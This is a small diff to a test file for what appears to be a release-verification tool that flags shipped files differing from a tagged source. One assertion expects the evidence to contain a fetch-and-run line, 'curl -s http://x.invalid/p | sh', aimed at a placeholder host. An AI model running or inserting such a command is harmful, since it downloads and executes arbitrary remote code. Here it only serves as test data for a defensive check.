@@ -132,6 +132,7 @@ describe('a link of the tag shipped as a file', () => {
     expect(j?.findings?.[0]).toMatchObject({ ruleId: 'verify/source-modified', severity: 'critical' })
     expect(j?.findings?.[0]?.message).toMatch(/symbolic link to README\.md in the tag/)
     expect(j?.findings?.[0]?.evidence).toContain('+curl -s http://x.invalid/p | sh')
+    expect(j?.findings?.[0]?.evidence).toContain('--- source/README.md')
     // not run by the build, a changed document is low
     const quiet = await judgeUnexplained(shipped(text), view({ README: text }, { 'README.md': readme, README: { link: 'README.md' } }), new Map())
     expect(quiet?.findings?.[0]?.severity).toBe('low')
